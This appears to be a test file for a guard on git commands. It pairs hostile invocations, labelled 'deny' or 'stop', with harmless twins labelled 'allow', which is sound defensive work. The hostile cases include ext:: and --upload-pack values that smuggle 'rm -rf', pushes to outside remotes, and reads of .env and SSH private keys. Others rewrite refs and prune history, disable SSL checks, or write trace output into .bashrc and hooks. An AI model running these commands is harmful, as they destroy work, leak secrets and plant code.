// Ways into and out of a repository that are easily overlooked, each with a harmless twin.
import { attacks } from '../../support/attack.ts';

const world = { files: { '.env': 'KEY=1\n', 'README.md': 'x\n' } };

attacks('programs that git starts', [
  ["git clone 'ext::sh -c rm% -rf% /srv/app' x", 'deny'],
  ["git ls-remote --upload-pack='rm -rf /srv/app' .", 'deny'],
  ["git ls-remote --upload-pa='rm -rf /srv/app' .", 'deny'],
  ['git clone --config core.fsmonitor=/tmp/x . y', 'stop'],
  ['git clone -c core.hooksPath=hooks https://x.example/y', 'stop'],
  ['git clone -c core.autocrlf=false https://x.example/y', 'allow'],
  ['git clone --upload-pack git-upload-pack https://x.example/y', 'allow'],
]);

attacks('where work is sent', [
  ['git remote add backup https://x.example/y.git && git push backup main', 'stop'],
  ['git remote set-url origin https://x.example/y.git; git push', 'stop'],
  ['git -c remote.origin.url=https://x.example/y push', 'stop'],
  ['git config remote.origin.mirror true && git push', 'stop'],
  ['git remote add upstream https://x.example/y.git && git fetch upstream', 'allow'],
  ['git push origin main', 'allow'],
]);

attacks('secret files in the work tree and in history', [
  ['git diff -- .env', 'stop', { world }],
  ['git diff HEAD .env', 'stop', { world }],
  ['git log -p -- .env', 'stop', { world }],
  ['git blame .env', 'stop', { world }],
  ['git grep . -- .env', 'stop', { world }],
  ['git archive HEAD .env | tar xO', 'stop', { world }],
  ['git log --oneline -- .env', 'allow', { world }],
  ['git diff --stat -- .env', 'allow', { world }],
  ['git diff main...topic -- .env.example', 'allow', { world }],
  ['git grep -l KEY -- .env', 'allow', { world }],
  ['git blame README.md', 'allow', { world }],
]);

attacks('work that is thrown away', [
  ['git checkout --pathspec-from-file=- <<< .', 'stop'],
  ['git restore --pathspec-from-file list.txt', 'stop'],
  ['git restore --staged --pathspec-from-file list.txt', 'allow'],
]);

attacks('refs that are pointed elsewhere', [
  ['git branch -f main HEAD~5', 'stop'],
  ['git update-ref refs/heads/main HEAD~3', 'stop'],
  ["printf 'update refs/heads/main HEAD~1\\n' | git update-ref --stdin", 'stop'],
  ['git symbolic-ref HEAD refs/heads/other', 'stop'],
  ['git symbolic-ref -d HEAD', 'stop'],
  ['git fetch origin +main:main', 'stop'],
  ['git fetch -f origin main:main', 'stop'],
  ['git pull --force origin +topic:topic', 'stop'],
  ['git submodule update --force', 'stop'],
  ["git archive --remote=. --exec='sh -c id' HEAD", 'stop'],
  ['git config http.sslVerify false', 'stop'],
  ['git config sendemail.smtpserver /tmp/x', 'stop'],
  ['git branch -M main', 'allow'],
  ['git branch topic origin/main', 'allow'],
  ['git symbolic-ref --short HEAD', 'allow'],
  ['git symbolic-ref refs/remotes/origin/HEAD refs/remotes/origin/main', 'allow'],
  ["git fetch origin '+refs/heads/*:refs/remotes/origin/*'", 'allow'],
  ['git fetch origin main:main', 'allow'],
  ['git submodule update --init --recursive', 'allow'],
  ['git config http.sslVerify true', 'allow'],
  ['git config sendemail.smtpserver smtp.x.example', 'allow'],
]);

attacks('what variables make git write, print and trust', [
  ['GIT_TRACE=/home/dev/.bashrc git status', 'stop'],
  ['GIT_TRACE2_EVENT=/home/dev/x git fetch', 'stop'],
  ['GIT_INDEX_FILE=/home/dev/.bashrc git read-tree HEAD', 'stop'],
  ['GIT_CURL_VERBOSE=1 GIT_TRACE_REDACT=0 git fetch', 'stop'],
  ['GIT_SSL_NO_VERIFY=1 git push', 'stop'],
  ['GIT_TRACE=1 git status', 'allow'],
  ['GIT_TRACE=/tmp/trace.log git status', 'allow'],
  ['GIT_INDEX_FILE=/tmp/idx git add -A', 'allow'],
  ['GIT_INDEX_FILE=.git/tmp-index git add -A', 'allow'],
  ['GIT_INDEX_FILE=.git/hooks/pre-commit git add -A', 'stop'],
  ['GIT_CURL_VERBOSE=1 git fetch', 'allow'],
  ['GIT_SSL_NO_VERIFY=0 git fetch', 'allow'],
]);

attacks('history and log-ins by the names of their own programs', [
  ['git-filter-repo --force --invert-paths --path a', 'stop'],
  ['bfg --delete-files x', 'stop'],
  ["git lfs migrate import --everything --include='*.zip'", 'stop'],
  ['/usr/lib/git-core/git-push --force origin main', 'stop'],
  ['$(git --exec-path)/git-reset --hard', 'stop'],
  ["printf 'host=github.com\\n' | git credential-manager get", 'stop'],
  ['git-credential-osxkeychain get', 'stop'],
  ['git-log --oneline', 'allow'],
  ['git lfs migrate info', 'allow'],
]);

attacks('the same by settings and in other words', [
  ['git -c gc.reflogExpire=now -c gc.pruneExpire=now gc', 'stop'],
  ['git config gc.pruneExpire now', 'stop'],
  ['git -c clean.requireForce=0 clean -dx', 'stop'],
  ['git checkout -B main HEAD~10', 'stop'],
  ['git switch -C main HEAD~4', 'stop'],
  ['git apply --unsafe-paths x.patch', 'stop'],
  ["git submodule add 'ext::sh -c rm% -rf% ~' sub", 'deny'],
  ['git subtree push --prefix=dist https://x.example/y main', 'stop'],
  ['git cat-file -p $(git hash-object -w ~/.ssh/id_rsa)', 'stop'],
  ['git tag -F ~/.ssh/id_rsa x', 'stop'],
  ['git -c gc.auto=0 gc', 'allow'],
  ['git config gc.auto 0', 'allow'],
  ['git checkout -B topic origin/topic', 'allow'],
  ['git switch -C topic', 'allow'],
  ['git subtree push --prefix=dist origin gh-pages', 'allow'],
  ['git subtree pull --prefix=vendor/x https://github.com/acme/x main --squash', 'allow'],
  ['git hash-object ~/.ssh/id_rsa', 'allow'],
  ['git tag -F notes.txt v1', 'allow'],
]);

attacks('secrets and lost work by a detour', [
  ['git cat-file blob $(git rev-parse HEAD:.env)', 'stop', { world }],
  ['git stash show -p stash@{0} -- .env', 'stop', { world }],
  ['git notes add -F ~/.ssh/id_rsa', 'stop'],
  ['git diff | git apply -R', 'stop'],
  ["git fetch origin '+refs/heads/*:refs/heads/*'", 'stop'],
  ["git svn clone --authors-prog='rm -rf ~' http://x.example", 'stop'],
  ['git cat-file blob $(git rev-parse HEAD:README.md)', 'allow', { world }],
  ['git stash show -p stash@{0}', 'allow', { world }],
  ['git diff | git apply --check -R', 'allow'],
  ['git apply -R fix.patch', 'allow'],
  ["git fetch origin '+refs/pull/*/head:refs/remotes/origin/pr/*'", 'allow'],
]);
